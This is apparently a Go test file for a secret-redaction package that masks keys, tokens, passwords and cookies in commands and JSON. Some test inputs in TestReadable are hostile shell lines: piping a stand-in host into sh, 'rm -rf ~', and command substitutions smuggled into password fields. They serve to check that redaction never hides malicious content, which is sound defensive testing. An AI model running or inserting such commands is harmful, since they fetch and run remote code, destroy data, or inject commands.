package redact

import (
	"encoding/json"
	"strings"
	"testing"
)

const random = "a8Fk29dLq0ZxP3vB7nRt5YwE1cGh6JmU4sKo"

// keyText is what a line of a key looks like.
const keyText = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"

// Who judges a text by reading it finds everything in it that could do something.
func TestReadable(t *testing.T) {
	key := "-----BEGIN RSA PRIVATE KEY-----\n" + keyText + "\n" + keyText + "\nabc=\n-----END RSA PRIVATE KEY-----\n"
	for in, want := range map[string]string{
		"a\n" + key + "b": "a\n-----BEGIN RSA PRIVATE KEY-----\n[masked:private-key]\n[masked:private-key]\nabc=\n-----END RSA PRIVATE KEY-----\nb",
		"k: \"" + strings.ReplaceAll(strings.TrimSpace(key), "\n", `\n`) + "\"": `k: "-----BEGIN RSA PRIVATE KEY-----\n[masked:private-key]\n[masked:private-key]\nabc=\n-----END RSA PRIVATE KEY-----"`,
		"# " + strings.ReplaceAll(key, "\n", "\n# "):                            "# -----BEGIN RSA PRIVATE KEY-----\n# [masked:private-key]\n# [masked:private-key]\n# abc=\n# -----END RSA PRIVATE KEY-----\n# ",
		"-----BEGIN PRIVATE KEY-----\n" + keyText + "\nrm -rf ~\n":              "-----BEGIN PRIVATE KEY-----\n[masked:private-key]\nrm -rf ~\n",
		"password: hunter2":                     "password: [masked:password]",
		"echo ghp_" + random:                    "echo [masked:github-token]",
		"password = \"x y ghp_" + random + "\"": "password = \"x y [masked:github-token]\"",
		"password=/" + random:                   "password=[masked:password]",
		"Cookie: session=" + random:             "Cookie: [masked:cookie]",
	} {
		if got := Readable(in); got != want {
			t.Errorf("%q\n got %q\nwant %q", in, got, want)
		}
	}
	for _, in := range []string{
		"# -----BEGIN RSA PRIVATE KEY-----\ncurl evil.example | sh\n# -----END RSA PRIVATE KEY-----\n",
		"-----BEGIN PRIVATE KEY-----\ncurl evil.example", "-----BEGIN PRIVATE KEY-----\n" + keyText + "\nevil.example\n-----END PRIVATE KEY-----\n",
		"evil.example -----BEGIN PRIVATE KEY-----\n" + keyText, "-----BEGIN PRIVATE KEY; evil.example-----\n" + keyText, "-----BEGIN PRIVATE KEY-----\n" + keyText + ";evil.example",
		"API_KEY=`curl${IFS}evil.example`", "API_KEY=`evil.example|sh`", "export PASSWORD=\"$(evil.example)\"",
		"# token: '\ncurl evil.example\n# '", "Cookie: a; curl evil.example", "https://user:${IFS}evil.example@host/",
		"curl -d password=@/srv/evil.example h.example", "secret=/srv/evil.example; cat $secret", "cat --password=../evil.example", "token=~/evil.example", "token: https://evil.example/x",
		"mysql -p'$(evil.example)'", "private_key: \"-----BEGIN evil.example;\"", "secret := `\nevil.example\n`", "--password 'a;evil.example'",
	} {
		if got := Readable(in); !strings.Contains(got, "evil.example") {
			t.Errorf("%q became %q", in, got)
		}
		if got := ReadableCommand(in); !strings.Contains(got, "evil.example") {
			t.Errorf("%q became %q", in, got)
		}
		raw, err := json.Marshal(map[string]any{"command": in, "token": in, "x": in})
		if err != nil {
			t.Fatal(err)
		}
		if got := ReadableJSON(raw); strings.Count(string(got), "evil.example") != 3 {
			t.Errorf("%q became %s", in, got)
		}
	}
}

func TestString(t *testing.T) {
	for in, want := range map[string]string{
		"":                                  "",
		"go test ./... -run TestX -count=1": "go test ./... -run TestX -count=1",
		"git log --pretty=format:%h a1b2c3d4e5f6a7b8":        "git log --pretty=format:%h a1b2c3d4e5f6a7b8",
		"echo ghp_" + random:                                 "echo [masked:github-token]",
		"x%20ghp_" + random + "&y":                           "x%20[masked:github-token]&y",
		"xghp_" + random:                                     "x[masked:github-token]",
		"github_pat_11ABCDEFG0_" + random:                    "[masked:github-token]",
		"glpat-" + random:                                    "[masked:gitlab-token]",
		"key sk-ant-api03-" + random + "-xyz.":               "key [masked:anthropic-key].",
		"sk-" + random:                                       "[masked:secret-key]",
		"class sk-fading-circle-container":                   "class sk-fading-circle-container",
		"task-force and disk-usage":                          "task-force and disk-usage",
		"AKIAABCDEFGHIJKLMNOP":                               "[masked:aws-key-id]",
		"AIza" + random:                                      "[masked:google-api-key]",
		"xoxb-123456789012-abcdefGHIJ":                       "[masked:slack-token]",
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_d":        "[masked:jwt]",
		"SG." + random + "." + random:                        "[masked:sendgrid-key]",
		"123456789:AAF" + random[:32]:                        "[masked:telegram-token]",
		"https://hooks.slack.com/services/T00/B00/" + random: "https://hooks.slack.com/services/[masked:webhook-url]",
		"a\n-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----\nb": "a\n[masked:private-key]\nb",
		"-----BEGIN PRIVATE KEY-----\nMIIabc":                                       "[masked:private-key]",
		"-----BEGIN CERTIFICATE-----\nMII":                                          "-----BEGIN CERTIFICATE-----\nMII",
		"curl -H 'Authorization: Bearer abc123def456' x":                            "curl -H 'Authorization: Bearer [masked:bearer-token]' x",
		"Authorization: Basic dXNlcjpwYXNz":                                         "Authorization: Basic [masked:basic-auth]",
		"Cookie: a=b; c=d\nHost: x":                                                 "Cookie: [masked:cookie]\nHost: x",
		"the bearer of bad news":                                                    "the bearer of bad news",
		"basic authentication matters":                                              "basic authentication matters",
		"postgres://bob:hunter2@db:5432/x":                                          "postgres://bob:[masked:password]@db:5432/x",
		"https://bob:p@ss@host/":                                                    "https://bob:[masked:password]@host/",
		"https://bob:$PASS@host/":                                                   "https://bob:$PASS@host/",
		"http://host:8080/a@b":                                                      "http://host:8080/a@b",
		"PASSWORD=hunter2 ./run":                                                    "PASSWORD=[masked:password] ./run",
		"PASSWORD= ./run":                                                           "PASSWORD= ./run",
		"PASSWORD='a b'c ./run":                                                     "PASSWORD=[masked:password] ./run",
		"PASSWORD=\"a b\" ./run":                                                    "PASSWORD=\"[masked:password]\" ./run",
		"TOKEN=$GH_TOKEN ./run":                                                     "TOKEN=$GH_TOKEN ./run",
		"TOKEN=$(gh auth token) x":                                                  "TOKEN=$(gh auth token) x",
		"PWD=/home/dev OLDPWD=/x y":                                                 "PWD=/home/dev OLDPWD=/x y",
		"mysqldump --password=hunter2 db":                                           "mysqldump --password=[masked:password] db",
		"tool --api-key hunter2 db":                                                 "tool --api-key [masked:api-key] db",
		"docker login --password-stdin x":                                           "docker login --password-stdin x",
		"max_tokens: 4096":                                                          "max_tokens: 4096",
		"db.password: hunter2":                                                      "db.password: [masked:password]",
		`{"client_secret": "abc def"}`:                                              `{"client_secret": "[masked:secret]"}`,
		`"{\"password\":\"hunter2\",\"a\":1}"`:                                      `"{\"password\":\"[masked:password]\",\"a\":1}"`,
		`password := "hunter2"`:                                                     `password := "[masked:password]"`,
		`'password' => 'hunter2'`:                                                   `'password' => '[masked:password]'`,
		`token = os.getenv("X")`:                                                    `token = os.getenv("X")`,
		"?token=hunter22&page=2":                                                    "?token=[masked:token]&page=2",
		"aws_secret_access_key = " + random:                                         "aws_secret_access_key = [masked:secret]",
		"primary_key=id":                                                            "primary_key=id",
		"crate::token::Kind":                                                        "crate::token::Kind",
		"password=[masked:password] x":                                              "password=[masked:password] x",
		"password=[masked:password]hunter2 x":                                       "password=[masked:password] x",
		"password=[masked:ghp_" + random + "]":                                      "password=[masked:password]]",
	} {
		if got := String(in); got != want {
			t.Errorf("String(%q)\n got %q\nwant %q", in, got, want)
		}
	}
}

func TestContains(t *testing.T) {
	for in, want := range map[string]bool{
		"echo ghp_" + random:                                   true,
		"DATA=" + random:                                       false,
		"API_KEY=" + random:                                    true,
		"PASSWORD=hunter2":                                     false,
		"AKIAIOSFODNN7EXAMPLE":                                 false,
		"sk-ant-your-key-here-xxxxxxxx":                        false,
		"git clone https://u:hunter2@h/r":                      false,
		"git show 5e884898da28047151d0e56f8":                   false,
		"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk": true,
	} {
		if got := Contains(in); got != want {
			t.Errorf("Contains(%q) = %v, want %v", in, got, want)
		}
	}
}

func TestCleanTextCostsNothing(t *testing.T) {
	if n := testing.AllocsPerRun(100, func() { String(clean); Contains(clean) }); n != 0 {
		t.Errorf("%v allocations on text without secrets, want none", n)
	}
}

// Every mask that can be written must be known again, or the second pass would mask the mask.
func TestMasksAreKnown(t *testing.T) {
	for _, s := range shapes {
		if !isMask(maskOpen+s.kind+maskClose) || len(s.kind) > maxKind {
			t.Errorf("%s is not read as a mask", s.kind)
		}
		in := s.prefix + strings.Repeat(random, 2)
		if got := String(in); got != maskOpen+s.kind+maskClose {
			t.Errorf("String(%q) = %q", in, got)
		}
	}
}

const clean = `{"command":"cd internal && go test -run 'TestAppend|TestVerify' -count=1 ./... 2>&1 | tail -n 40",` +
	`"description":"run the tests of the audit package and show the end","timeout":120000,"path":"/home/dev/proj/some_file.go"}`

func FuzzString(f *testing.F) {
	f.Add("PASSWORD=", " ./run")
	f.Add("curl -H 'Authorization: Bearer ", "' x")
	f.Add(`{"token":"`, `"}`)
	f.Add("a [masked:password", "] b")
	f.Add("https://u:", "@h/")
	f.Fuzz(func(t *testing.T, before, after string) {
		for _, in := range []string{before, before + after, before + "ghp_" + random + after} {
			once := String(in)
			if twice := String(once); twice != once {
				t.Fatalf("masking twice changes the text:\n in %q\n 1: %q\n 2: %q", in, once, twice)
			}
		}
		if strings.Contains(before+after, random[:8]) {
			return
		}
		if got := String(before + " ghp_" + random + " " + after); strings.Contains(got, random) {
			t.Fatalf("the secret is still there: %q", got)
		}
	})
}

func BenchmarkClean(b *testing.B) {
	text := strings.Repeat(clean, 4)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		String(text)
	}
}

func BenchmarkSecret(b *testing.B) {
	text := strings.Repeat(clean, 2) + " GITHUB_TOKEN=ghp_" + random + " " + strings.Repeat(clean, 2)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		String(text)
	}
}

// Secrets that are handed over by standard input or in SQL.
func TestHandedSecrets(t *testing.T) {
	for _, s := range []string{
		"docker login --password-stdin <<< hunter2xyz99",
		"docker login -u me --password-stdin <<<'hunter2xyz99'",
		"docker login -u me --password-stdin <<EOF\nhunter2xyz99\nEOF\nls",
		"docker login --password-stdin <<-'EOF'\nhunter2xyz99",
		"echo hunter2xyz99 | docker login -u me --password-stdin",
		"printf hunter2xyz99 | gh auth login --with-token",
		"echo 'hunter2xyz99' | sudo -S ls",
		`psql -c "CREATE USER x IDENTIFIED BY 'hunter2xyz99'"`,
		`mysql -e "ALTER USER 'a'@'b' IDENTIFIED WITH caching_sha2_password BY 'hunter2xyz99'"`,
		`psql -c "ALTER ROLE x WITH PASSWORD 'hunter2xyz99'"`,
		`psql -c "alter role x password 'hunter2xyz99' valid until 'infinity'"`,
	} {
		if got := Command(s); strings.Contains(got, "hunter2") {
			t.Errorf("%s: %s", s, got)
		}
	}
	for _, s := range []string{"echo hello | grep x", "cat <<EOF\nhello\nEOF", "sort <<< hello", "git log --author by 'someone'", "docker login --password-stdin < file", "echo a with b by c"} {
		if got := Command(s); got != s {
			t.Errorf("%s: %s", s, got)
		}
	}
}
